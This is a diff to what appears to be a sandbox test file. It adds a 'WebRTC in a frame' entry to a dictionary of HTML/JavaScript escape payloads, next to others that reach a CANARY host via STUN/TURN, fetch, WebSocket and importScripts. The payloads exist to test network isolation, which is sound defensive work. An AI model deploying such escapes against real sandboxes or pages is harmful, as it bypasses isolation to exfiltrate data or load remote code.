@@ -73,6 +73,9 @@ ESCAPES = {
     "WebRTC": "<script>c = new RTCPeerConnection({iceServers: [{urls: ['stun:CANARY',"
     " 'turn:CANARY?transport=tcp', 'turn:CANARY'], username: 'a', credential: 'b'}]});"
     "c.createDataChannel('a'); c.createOffer().then(o => c.setLocalDescription(o))</script>",
+    "WebRTC in a frame": "<iframe></iframe><script>c = new frames[0].RTCPeerConnection("
+    "{iceServers: [{urls: 'stun:CANARY'}]}); c.createDataChannel('a');"
+    "c.createOffer().then(o => c.setLocalDescription(o))</script>",
     "worker": "<script>new Worker(URL.createObjectURL(new Blob(["
     "\"fetch('http://CANARY/', {mode: 'no-cors'}); new WebSocket('ws://CANARY/');"
     "importScripts('http://CANARY/a.js')\"])))</script>",
